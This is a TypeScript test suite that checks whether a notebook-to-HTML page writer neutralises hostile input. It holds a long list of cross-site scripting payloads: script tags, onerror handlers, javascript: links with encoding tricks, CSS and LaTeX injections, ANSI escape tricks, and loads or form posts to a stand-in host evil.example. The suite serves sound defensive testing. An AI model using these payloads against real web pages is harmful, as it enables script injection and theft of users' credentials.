import { describe, expect, it } from "vitest";
import { writePage } from "../../../lib/nbtest/page/page";
import type { ReadableCell } from "../../../lib/nbtest/page/readable-notebook";
import { dangersIn } from "./markup";

const ATTACKS: readonly string[] = [
  "<script>alert(1)</script>",
  "<ScRiPt>alert(1)</sCrIpT >",
  "<script src=//evil.example/x.js></script>",
  "<scr<script>ipt>alert(1)</script>",
  "<scr<!-- -->ipt>alert(1)</script>",
  "<script\n>alert(1)",
  "</title><script>alert(1)</script>",
  "</style><script>alert(1)</script>",
  "</pre></div></main></body><script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<img/src=x/onerror=alert(1)>",
  '<img src="data:image/png;base64,AAAA" onerror="alert(1)">',
  '<img src="https://evil.example/pixel.png">',
  '<img srcset="https://evil.example/pixel.png 1x" src="data:image/png;base64,AAAA">',
  "<svg onload=alert(1)>",
  '<svg><script href="data:,alert(1)"/></svg>',
  "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
  '<svg><style><img src=x onerror="alert(1)"></style></svg>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61vascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="https://ok.example" onclick="alert(1)">x</a>',
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  '<div style="background:u\\72l(https://evil.example/x)">x</div>',
  '<div style="position:fixed;inset:0;background:red">x</div>',
  '<div style="color:red;}body{background:url(//evil.example)">x</div>',
  '<div style="color: &#117;rl(x)">x</div>',
  "<div onmouseover=alert(1)>x</div>",
  '<div title="><script>alert(1)</script>">x</div>',
  "<div title='\"><img src=x onerror=alert(1)>'>x</div>",
  '<b title=a"onclick=alert(1)//>x</b>',
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password><button>ok</button></form>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<style>@import "https://evil.example/x.css";</style>',
  "<style><!--</style><script>alert(1)</script>-->",
  "<!--><script>alert(1)</script>-->",
  "<![CDATA[><script>alert(1)</script>]]>",
  "<?xml version='1.0'?><script>alert(1)</script>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<template><script>alert(1)</script></template>",
  "<video><source onerror=alert(1)></video>",
  "<details open ontoggle=alert(1)>x</details>",
  "<constructor><__proto__><toString>",
  "<b><i></b></i></td></table></section>",
  "<table><tr><td><div></table></td><b>",
  "<",
  "<a",
  '<a href="',
  "<b / / x>y</b>",
  "\u0000<\u0000script>alert(1)</script>",
  "[x](javascript:alert(1))",
  "[x](<java\nscript:alert(1)>)",
  "[x](JAVASCRIPT&colon;alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x]( data:text/html;base64,PHNjcmlwdD4=)",
  '[x](https://ok.example "\\"><script>alert(1)</script>")',
  "[x](//evil.example/share)",
  "[x](data:image/png;base64,AAAA)",
  "[x][y]\n\n[y]: javascript:alert(1)",
  "![x](javascript:alert(1))",
  "![x](https://evil.example/pixel.png)",
  '![x](data:image/svg+xml;base64,AAAA "onerror=alert(1)")',
  '![x" onerror="alert(1)](data:image/png;base64,AAAA)',
  "![x](attachment:%E0%A4%A)",
  "<javascript:alert(1)>",
  "# <img src=x onerror=alert(1)>\n\n## [a](javascript:alert(1))\n\n## b\n\n## c",
  '# "><script>alert(1)</script>',
  '```mermaid\ngraph TD; A[<script>alert(1)</script>]-->B; click A "javascript:alert(1)"\n```',
  '```"><script>alert(1)</script>\nx\n```',
  "$\\href{javascript:alert(1)}{x}$",
  "$\\url{javascript:alert(1)}$",
  "$\\includegraphics[height=1em]{https://evil.example/x.png}$",
  "$\\htmlClass{contents}{x} \\htmlId{a}{x} \\htmlStyle{position:fixed}{x} \\htmlData{a=b}{x}$",
  "$$\\text{</annotation></semantics></math><script>alert(1)</script>}$$",
  "$\\color{red;background:url(x)}{x}$",
  "$\\def\\a{\\a\\a}\\a$",
  `$${"{".repeat(4000)}x${"}".repeat(4000)}$`,
  "$\\unknown{<img src=x onerror=alert(1)>$",
  "<details>\n<summary>a</summary>\n\n- <details>\n\ntext\n\n</details>\n\n</details>",
  "- <details>\n\n- </details>\n\n**a <b>b** c</b>",
  "\u001b]8;;javascript:alert(1)\u0007click\u001b]8;;\u0007",
  '\u001b[31"onclick="alert(1)m<script>alert(1)</script>\u001b[0m',
  "\u001b[38;2;1;2;expression(1)mred\u001b[48;5;999mx",
];

const TYPES = [
  "text/html",
  "text/markdown",
  "text/latex",
  "text/plain",
  "image/svg+xml",
  "image/png",
  "application/json",
  "<b>/x",
];

const cellsOf = (attack: string): readonly ReadableCell[] => [
  { cell_type: "markdown", source: attack, attachments: { [attack]: { "image/png": attack, [attack]: "AAAA" } } },
  { cell_type: "markdown", source: `words ${attack} words` },
  { cell_type: "raw", source: attack },
  { cell_type: attack, source: [attack] },
  {
    cell_type: "code",
    source: attack,
    execution_count: attack,
    outputs: [
      ...TYPES.map((type) => ({
        output_type: "display_data",
        data: { [type]: attack },
        metadata: { [type]: { width: attack } },
      })),
      { output_type: "display_data", data: { "image/svg+xml": "<svg/>", "text/plain": attack } },
      { output_type: "stream", name: attack, text: attack },
      { output_type: "error", ename: attack, evalue: attack, traceback: [attack] },
      { output_type: attack, data: { [attack]: attack } },
      { output_type: "display_data", data: attack, metadata: attack },
    ],
  },
];

describe("a page of a notebook that attacks", () => {
  for (const attack of ATTACKS) {
    it(`neither runs nor loads anything with ${JSON.stringify(attack.slice(0, 60))}`, () => {
      const metadata = { language_info: { name: attack }, kernelspec: { language: attack } };
      const page = writePage({ cells: cellsOf(attack), metadata: metadata }, { title: attack, note: attack });
      expect(dangersIn(page)).toEqual([]);
      expect(page.match(/<body>/g)).toHaveLength(1);
      expect(page.match(/<main>/g)).toHaveLength(1);
      expect(page.trimEnd().endsWith("</main>\n</body>\n</html>")).toBe(true);
    });
  }

  it("forbids by its policy that anything runs or loads", () => {
    const page = writePage({ cells: [] }, { title: "empty" });
    const policy = /http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(page)?.[1];
    expect(policy).toContain("default-src 'none'; img-src data:; style-src 'unsafe-inline'");
  });

  it("asks the browser not to look up the names of the hosts that it links to", () => {
    expect(writePage({ cells: [] }, { title: "empty" })).toContain('http-equiv="x-dns-prefetch-control" content="off"');
  });

  it("loads nothing from its style sheet", () => {
    expect(writePage({ cells: [] }, { title: "empty" })).not.toMatch(/url\(|@import|@font-face|https?:/);
  });

  it("reads hostile lengths in a time that grows with the length", () => {
    const repeated = [
      "<!--",
      "<script ",
      "<svg ",
      "<a b='",
      "<b>",
      "$",
      "$$\n",
      "[",
      "![](",
      "*",
      "`",
      "\u001b[",
      "\u001b]",
      "<details>\n\n",
    ];
    for (const piece of repeated) {
      const cells = cellsOf(piece.repeat(Math.ceil(20_000 / piece.length)));
      expect(dangersIn(writePage({ cells: cells }, { title: piece }))).toEqual([]);
    }
  }, 60_000);
});
